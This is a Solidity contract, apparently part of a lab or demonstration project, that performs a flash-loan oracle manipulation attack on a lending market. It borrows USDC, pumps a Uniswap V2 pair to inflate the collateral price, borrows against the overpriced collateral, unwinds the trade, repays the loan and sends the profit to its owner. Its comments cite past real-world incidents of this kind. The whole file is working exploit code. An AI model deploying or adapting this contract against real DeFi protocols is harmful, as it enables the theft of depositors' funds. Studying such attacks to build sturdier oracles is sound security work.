// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import {IERC20, IERC3156FlashBorrower, IERC3156FlashLender, IUniswapV2Pair} from "../base/Interfaces.sol";
import {PairTrade} from "../base/PairTrade.sol";
import {LendingMarket} from "../protocol/LendingMarket.sol";

/// @notice The spot-price attack (Harvest 2020, Cheese Bank 2020, Inverse 2022) within one transaction: flash loan,
/// pump the pair, borrow against the overpriced collateral, unwind the pump, repay, keep the rest.
contract AttackOracle is IERC3156FlashBorrower {
    address public immutable owner;
    LendingMarket public immutable market;
    IERC3156FlashLender public immutable lender;
    /// @notice How much is borrowed to pump the pair, USDC base units.
    uint256 public immutable pump;
    IERC20 private immutable usdc;
    IERC20 private immutable acme;
    IUniswapV2Pair private immutable pair;

    error NotOwner(address account);
    error NotOurLoan();
    error NothingLeft();

    constructor(LendingMarket market_, IERC3156FlashLender lender_, uint256 pump_) {
        owner = msg.sender;
        market = market_;
        lender = lender_;
        pump = pump_;
        usdc = market_.usdc();
        acme = market_.collateralToken();
        pair = market_.pair();
        usdc.approve(address(lender_), type(uint256).max);
        acme.approve(address(market_), type(uint256).max);
    }

    /// @notice Borrows at most `amount` USDC from the market for far too little collateral; profit to the owner.
    function run(uint256 amount) external {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        uint256 cash = usdc.balanceOf(address(market));
        if (cash < _cost()) revert NothingLeft();
        lender.flashLoan(this, address(usdc), pump, abi.encode(amount < cash ? amount : cash));
        usdc.transfer(owner, usdc.balanceOf(address(this)));
    }

    /// @notice True where another run would take nothing.
    function exhausted() external view returns (bool) {
        return usdc.balanceOf(address(market)) < _cost();
    }

    /// @notice ERC-3156's callback: everything happens here. A loss makes the repayment, and so the run, fail.
    function onFlashLoan(address initiator, address, uint256 amount, uint256, bytes calldata data)
        external
        returns (bytes32)
    {
        if (msg.sender != address(lender) || initiator != address(this)) revert NotOurLoan();
        PairTrade.sell(pair, address(usdc), amount, address(this));
        _borrow(abi.decode(data, (uint256)));
        PairTrade.sell(pair, address(acme), acme.balanceOf(address(this)), address(this));
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }

    /// @dev What pumping and unwinding costs at most: two trades at 0.3 %, the loan's 0.05 %, rounded up to 1 %.
    function _cost() private view returns (uint256) {
        return pump / 100;
    }

    function _borrow(uint256 amount) private {
        uint256 perToken = (market.collateralPrice() * market.BORROW_LIMIT()) / 10_000;
        market.depositCollateral((amount * 1e18) / perToken + 1e12);
        market.borrow(amount);
    }
}
